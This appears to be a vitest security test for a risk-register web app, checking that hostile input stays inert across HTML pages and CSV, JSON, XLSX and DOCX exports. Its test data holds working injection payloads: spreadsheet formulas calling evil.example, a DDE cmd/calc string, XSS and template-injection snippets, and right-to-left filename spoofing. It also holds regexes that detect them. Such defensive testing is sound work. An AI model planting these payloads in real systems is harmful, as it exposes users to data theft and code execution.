import { afterAll, expect } from 'vitest'
import { stopWriting } from '../src/documents/writing/formats.ts'
import { partsOf } from '../src/documents/writing/zip-parts.ts'
import { aboutRisks, addressesOf, day, fillRisk, idOf, kept, sceneOf } from './risk-scene.ts'
import { journey } from './support.ts'

afterAll(stopWriting)

/** Begins as a formula would, and goes on as markup, a template or a turned direction. */
const hostile = [
  `=HYPERLINK("http://evil.example/?x="&A1,"Open")<script>alert(1)</script>`,
  `@SUM(1+1)"><img src=x onerror=alert(1)> {{constructor.constructor('x')()}} \u202Egnp.exe`,
  `-2+3+cmd|' /C calc'!A0 ]]></w:t><!-- null \u0007 javascript:alert(1)`,
]

const turned = /[\u202A-\u202E\u2066-\u2069]/

/** The cells of a file of commas; a line may end within quotes. */
const cellsOf = (text: string): string[] =>
  [...text.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => quoted ?? plain ?? '')

/** What of a page or file would do something where words should only stand; undefined where nothing would. */
function livesIn(path: string, text: string): string | undefined {
  if (path.endsWith('/csv')) return cellsOf(text).find((cell) => /^(?:[=@+\t＝]|-\d+\D)/.test(cell))
  if (path.endsWith('/json')) return JSON.parse(text) === null || turned.test(text) ? 'not told as text' : undefined
  const [found] = /<script>alert|<img src=x|href="(javascript|http:\/\/evil)[^"]*|undefined|\[object Object\]/.exec(text) ?? []
  return found ?? (turned.test(text) ? 'a turned direction' : undefined)
}

async function livesInOffice(bytes: Buffer): Promise<string | undefined> {
  for (const [name, part] of await partsOf(bytes)) {
    const [found] = /<f>|<f |<script|<!ENTITY|<!DOCTYPE|instrText[^>]*>\s*(HYPERLINK|DDE)/i.exec(part.toString()) ?? []
    const external = [...part.toString().matchAll(/Target="([^"]*)"[^>]*TargetMode="External"/g)].find(([, to]) =>
      /evil|javascript/.test(to ?? ''),
    )
    if (/\.(xml|rels)$/.test(name) && (found ?? external)) return `${name} ${found ?? external}`
  }
  return undefined
}

journey('hostile words in every field of a risk and all that hangs on it are words wherever they stand', async (world) => {
  const scene = await sceneOf(world)
  const { lead } = scene
  const risks: string[] = []
  for (const [at, words] of hostile.entries()) {
    const { risk } = await fillRisk(scene, `=${at}`, words, { meantIt: risks.map(idOf).join(), category: words.slice(0, 70) })
    risks.push(risk)
  }
  const pack = await kept(lead.post('/packs', { body: scene.body, ...day('meetsOn', '2024-11-26'), title: hostile[0] ?? '' }))
  for (const kind of ['full framework', 'risks of a register', 'appetite breaches', 'matters', 'heat map'])
    await kept(
      lead.post(`${pack}/sections`, { version: '0', kind, title: hostile[1] ?? '', register: kind.includes('of a') ? scene.register : '' }),
    )
  const pages = await addressesOf(world, 'GET', [...aboutRisks, 'work', 'alignment', 'reporting', 'record', 'delivery'])
  const beside = risks.flatMap((risk) => [
    risk,
    `${risk}/assurance`,
    `${risk}/bow-tie`,
    `${risk}/honesty`,
    `/reports/risks/${idOf(risk)}/csv`,
  ])
  const files = ['csv', 'json', 'xlsx', 'docx'].map((format) => `/reports/risks/${format}?register=${scene.register}`)
  const faults = []
  for (const path of [...pages, ...beside, ...files, `/risks?register=${scene.register}`, '/search?q=HYPERLINK', '/audits?show=all']) {
    const answer = await lead.get(path)
    if (answer.status >= 500) faults.push(`${path}: ${answer.status}`)
    const bytes = Buffer.from(await answer.arrayBuffer())
    const plain = path.split('?')[0] ?? ''
    const live = /\/(xlsx|docx)$/.test(plain)
      ? await livesInOffice(bytes)
      : answer.status < 300
        ? livesIn(plain, bytes.toString())
        : undefined
    if (live) faults.push(`${path}: ${live}`)
  }
  expect(faults).toEqual([])
  const told = await lead.read(`/reports/risks/json?register=${scene.register}`)
  for (const words of ['HYPERLINK', '@SUM(1+1)', 'cmd|']) expect(told).toContain(words)
  expect(await lead.read(risks[1] ?? '')).toContain('&lt;img src=x onerror=alert(1)&gt; {{constructor')
})

journey('a name of a register, a body’s matter and an answer do not break out of the page they stand on', async (world) => {
  const { lead, body } = await sceneOf(world)
  const words = hostile[1] ?? ''
  await kept(lead.post('/risks/registers', { name: words, level: 'organisational' }))
  await kept(lead.post('/assurance/scales', { name: words.slice(0, 90), levels: `1 ${words}\n2 None` }))
  const matter = await kept(lead.post('/escalations', { kind: 'assure', title: words, words, asked: words, to: body, as: 'role' }))
  const pages = [
    '/risks',
    '/risks/registers',
    '/assurance/scales',
    '/escalations',
    matter,
    `/escalations/bodies/${body}`,
    '/history',
    '/risks/propose',
  ]
  for (const page of [...pages, '/search?q=%22%3E%3Cimg+src=x', '/risks?band=%22%3E%3Cimg+src=x', '/risks?category=%3Cscript%3Ealert(1)'])
    expect(livesIn(page, await lead.read(page)), page).toBeUndefined()
})
